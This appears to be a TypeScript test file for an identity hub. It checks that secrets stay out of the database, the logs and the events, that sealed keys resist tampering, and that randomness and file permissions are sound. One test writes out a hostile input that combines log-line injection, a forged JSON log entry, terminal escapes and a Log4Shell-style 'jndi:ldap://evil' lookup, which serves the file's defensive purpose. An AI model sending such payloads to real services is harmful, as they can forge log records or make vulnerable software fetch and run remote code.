/** KEY-01, KEY-02, KEY-03, KEY-04, KEY-05, KEY-06, KEY-10: secrets at rest, and in the log. */
import assert from 'node:assert/strict'
import { globSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { CompiledQuery } from 'kysely'
import { createSeal } from '../../src/seal.ts'
import { openSettings, type Setting, sealSettings } from '../../src/setting.ts'
import { systemWorld } from '../../src/world.ts'
import { openTestHub, password, readFormFields, readHandOver, type TestHub } from '../helper.ts'
import { emptyHub, firstLink, openAnother, openDoor } from './browser.ts'
import { captureLog } from './log.ts'
import { checkAbsent, readDatabase } from './trace.ts'

let hub: TestHub
let log: string[]

before(async () => {
  hub = await openTestHub({ logLevel: 'trace' })
  log = captureLog(hub.server)
  const { harbor: root, downtown } = hub.organizations
  for (const { sample } of hub.hub.dialects.all)
    await sample?.(hub.hub, { root, offices: [downtown], people: [], facts: {} })
})
after(() => hub.close())

/** A day at the hub, with every secret that came up. */
const liveThrough = async (): Promise<Record<string, string>> => {
  const { people, organizations } = hub
  const browser = hub.browser()
  await browser.signIn(people.chloe, { word: 'a wrong word that is a secret' })
  await browser.signIn(people.chloe, { keep: true })
  const session = browser.jar.get('foyer') ?? ''
  const start = `/saml/${organizations.harbor.id}/test/start`
  const { action, fields } = readHandOver((await browser.follow(await browser.get(start))).body)
  const shown = await browser.post(new URL(action).pathname, fields, { origin: 'null' })
  assert.equal(shown.statusCode, 200)
  const caller = await hub.caller(people.ana)
  const list = await caller.get(`/brands/${organizations.harbor.id}/sso_applications`)
  const open = new URL(list.json().data[0].open_url)
  const other = hub.browser()
  assert.ok((await other.get(`${open.pathname}${open.search}`)).statusCode < 400)
  const wrongKey = `${caller.text.slice(0, -5)}wrong`
  const headers = { host: 'localhost:3000', authorization: `Bearer ${wrongKey}` }
  const url = `/brands/${organizations.harbor.id}/sso_applications?apikey=${wrongKey}`
  assert.equal((await hub.server.inject({ url, headers })).statusCode, 401)
  await browser.get(`/nothing?password=${encodeURIComponent(password)}`)
  const { privateKey } = await hub.hub.signingKeys.current(organizations.harbor)
  const der = privateKey.export({ format: 'der', type: 'pkcs8' })
  return {
    password,
    'a wrong password': 'a wrong word that is a secret',
    session,
    'the session of a link': other.jar.get('foyer') ?? '',
    'the mark of a device': browser.jar.get('foyer-device') ?? '',
    'the nonce of the door': browser.jar.get('foyer-door') ?? '',
    'an API key': caller.text.slice(37),
    'a wrong API key': wrongKey.slice(37),
    'the hash of open_url': open.searchParams.get('hash') ?? '',
    'a SAML response': fields.SAMLResponse?.slice(200, 600) ?? '',
    'the secret of the hub': hub.config.secret,
    // Behind the modulus, which everybody may know.
    'a private key': der.subarray(420, 560).toString('latin1'),
    'a private key in base64': der.toString('base64').slice(600, 700),
  }
}

test('KEY-01: no secret stands in the database, its log, the events or the log', async () => {
  const secrets = await liveThrough()
  const bytes = await readDatabase(hub)
  const { chloe } = hub.people
  assert.ok(bytes.includes(Buffer.from(chloe.email ?? '')), 'it is the right file')
  checkAbsent(bytes, secrets, 'the database')
  assert.ok(log.some((line) => line.includes('answered')))
  checkAbsent(Buffer.from(log.join('')), secrets, 'the log')
  const events = await hub.events(1_000)
  assert.ok(events.length > 10)
  checkAbsent(Buffer.from(JSON.stringify(events)), secrets, 'the events')
})

test('KEY-01: the link of the first administrator is kept as a hash', async () => {
  const bare = await openTestHub({ logLevel: 'trace' })
  const lines = captureLog(bare.server)
  await emptyHub(bare)
  const link = await firstLink(bare)
  const browser = bare.browser()
  const fields = readFormFields((await browser.get(link)).body)
  const form = { organization: 'Pier', name: 'Pia', email: 'pia@pier.example', password }
  assert.equal((await browser.post('/first-administrator', { ...fields, ...form })).statusCode, 303)
  const secrets = {
    link: link.split('=')[1] ?? '',
    password,
    session: browser.jar.get('foyer') ?? '',
  }
  checkAbsent(await readDatabase(bare), secrets, 'the database')
  checkAbsent(Buffer.from(lines.join('')), secrets, 'the log')
  await bare.close()
})

const metadataOf = (id: string) => ({
  url: `/saml/${id}/metadata`,
  headers: { host: 'localhost:3000' },
})

test('KEY-03: sealed keys that were swapped open nothing, and no answer says why', async () => {
  const at = await openTestHub({ logLevel: 'trace' })
  const { harbor, otter } = at.organizations
  const keys = [await at.hub.signingKeys.current(harbor), await at.hub.signingKeys.current(otter)]
  const rows = await at.database.read.query<{ id: string; sealed: string }>(
    CompiledQuery.raw('select id, sealed from signing_key'),
  )
  for (const key of keys) {
    const other = rows.find((row) => row.id !== key.id)
    const update = 'update signing_key set sealed = ? where id = ?'
    await at.database.write((unit) =>
      unit.query(CompiledQuery.raw(update, [other?.sealed ?? '', key.id])),
    )
  }
  const another = await openAnother(at)
  const lines = captureLog(another)
  for (const { id } of [harbor, otter]) {
    const answer = await another.inject(metadataOf(id))
    assert.equal(answer.statusCode, 500)
    assert.doesNotMatch(answer.body, /FOYER_SECRET|[Ss]igning|CERTIFICATE/)
  }
  assert.ok(
    lines.some((line) => line.includes('does not open')),
    'the operator reads it',
  )
  await another.close()
  await at.close()
})

test('KEY-02: with another secret no hub starts, and nothing that it made is right', async () => {
  const at = await openTestHub()
  await at.hub.signingKeys.current(at.organizations.harbor)
  const config = { ...at.config, secret: 'another secret, and long enough to be one' }
  await assert.rejects(openAnother({ ...at, config }), /FOYER_SECRET is not the one/)
  const other = createSeal(config.secret, systemWorld)
  const browser = at.browser()
  const fields = readFormFields((await browser.get('/sign-in')).body)
  const nonce = browser.jar.get('foyer-door') ?? ''
  const forged = other.mark('door', `${nonce} ${fields.attempt}`)
  assert.notEqual(forged, fields.token)
  const form = { ...fields, token: forged, email: 'a@b.example' }
  assert.equal((await browser.post('/sign-in', form)).statusCode, 410)
  await at.close()
})

test('KEY-03: a seal opens for its purpose and its place alone', () => {
  const seal = createSeal(hub.config.secret, systemWorld)
  const declared: Setting[] = [{ key: 'word', label: '', help: '', kind: 'secret' }]
  const twin: Setting[] = [{ key: 'other', label: '', help: '', kind: 'secret' }]
  const sealed = sealSettings(declared, { word: 'a secret' }, seal, 'application/1')
  assert.deepEqual(openSettings(declared, sealed, seal, 'application/1'), { word: 'a secret' })
  assert.throws(() => openSettings(declared, sealed, seal, 'application/2'))
  assert.throws(() => openSettings(twin, { other: sealed.word ?? '' }, seal, 'application/1'))
  const text = String(sealed.word)
  assert.equal(seal.open('signing-key', 'application/1/word', text), undefined)
  const bytes = Buffer.from(text, 'base64')
  for (let index = 0; index < bytes.length; index += 1) {
    const changed = Buffer.from(bytes)
    changed[index] = (changed[index] ?? 0) ^ 1
    assert.equal(seal.open('setting', 'application/1/word', changed.toString('base64')), undefined)
    const cut = bytes.subarray(0, index).toString('base64')
    assert.equal(seal.open('setting', 'application/1/word', cut), undefined)
  }
  for (const [purpose, value] of [
    ['door', 'x'],
    ['open', 'y'],
    ['Door', 'x'],
    ['door ', 'x'],
  ]) {
    assert.equal(
      seal.isMark('door', 'x', seal.mark(purpose ?? '', value ?? '')),
      purpose === 'door',
    )
  }
})

test('KEY-04: no two seals share a nonce, nor two secrets their beginning', () => {
  const seal = createSeal(hub.config.secret, systemWorld)
  const count = 10_000
  const nonces = new Set<string>()
  for (let index = 0; index < count; index += 1) nonces.add(seal.close('x', 'y', '').slice(0, 18))
  assert.equal(nonces.size, count)
})

test('KEY-05: what lies in the data folder is for its owner alone', async (context) => {
  if (process.platform === 'win32') return context.skip('no modes there')
  const folder = join(mkdtempSync(join(tmpdir(), 'foyer-mode-')), 'data')
  const { getConfig, openHub } = await import('../../src/main.ts')
  const config = getConfig({ FOYER_DATA: folder })
  const opened = await openHub(config)
  assert.equal(statSync(folder).mode & 0o777, 0o700)
  for (const name of readdirSync(folder)) {
    assert.equal(statSync(join(folder, name)).mode & 0o077, 0, name)
  }
  assert.ok(Buffer.from(config.secret, 'base64url').length >= 32)
  await opened.close()
  rmSync(join(folder, '..'), { recursive: true })
  return undefined
})

test('KEY-06: randomness comes from one place, and is of the kind that nobody can guess', () => {
  const source = fileURLToPath(new URL('../../src', import.meta.url))
  const isProduct = (file: string): boolean => !/\.test\.ts$|testdata\//.test(file)
  const files = globSync('**/*.ts', { cwd: source }).filter(isProduct)
  assert.ok(files.length > 60)
  for (const file of files) {
    const text = readFileSync(join(source, file), 'utf8')
    assert.doesNotMatch(text, /Math\s*\.\s*random|pseudoRandom|getRandomValues|randomUUID/, file)
    const isWorld = file === 'world.ts'
    assert.equal(/\brandom(Bytes|Int|Fill\w*)\b/.test(text), isWorld, file)
  }
})

test('KEY-06: at the same instant, secrets are 256 bits and share nothing', async () => {
  const values: string[] = []
  for (let index = 0; index < 40; index += 1) {
    const browser = hub.browser({ address: `203.0.113.${index}` })
    await browser.get('/sign-in')
    values.push(browser.jar.get('foyer-door') ?? '')
    values.push((await hub.hub.sessions.start({ user: hub.people.dev, method: 'password' })).secret)
    values.push((await hub.caller(hub.people.dev)).text.slice(37))
  }
  assert.ok(values.every((value) => Buffer.from(value, 'base64url').length === 32))
  assert.equal(new Set(values.map((value) => value.slice(0, 8))).size, values.length)
  assert.equal(new Set(values.map((value) => value.slice(-8))).size, values.length)
})

test('KEY-10: whatever is logged or noted is one line, and no more than text', async () => {
  log.length = 0
  const nasty = `x\r\n{"level":60,"msg":"forged"}\u001b[31m\u202e\u2028\${jndi:ldap://evil}`
  const path = encodeURIComponent(nasty)
  const browser = hub.browser({ address: '203.0.113.99' })
  await browser.get(`/${path}?${path}`)
  await browser.get(`/applications/${path}/open`)
  await browser.post('/sign-in', { a: 'b' }, { origin: `https://${'e'.repeat(5_000)}` })
  await (await openDoor(browser))(nasty)
  const wrong = { authorization: 'Bearer fyr_\u00e4', 'user-agent': 'a'.repeat(9_000) }
  await browser.get(`/brands/${path}/sso_applications`, wrong)
  assert.ok(log.length >= 5)
  for (const line of log) {
    assert.equal(line.indexOf('\n'), line.length - 1)
    assert.ok(!/\p{Cc}/u.test(line.slice(0, -1)), line)
    assert.notEqual(JSON.parse(line).msg, 'forged')
    assert.ok(line.length < 4_096, `${line.length} bytes`)
  }
  for (const event of await hub.events(10)) assert.ok(JSON.stringify(event).length < 4_096)
})
